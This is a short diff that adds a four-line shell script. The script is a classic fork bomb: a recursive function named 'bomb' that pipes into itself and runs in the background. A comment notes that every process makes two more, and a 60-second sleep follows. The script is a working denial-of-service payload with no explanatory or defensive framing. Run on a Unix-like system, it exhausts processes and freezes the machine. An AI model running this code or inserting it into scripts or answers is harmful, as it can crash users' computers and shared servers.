@@ -1,0 +1,4 @@
+# Every process makes two more.
+bomb() { bomb | bomb & }
+bomb
+sleep 60
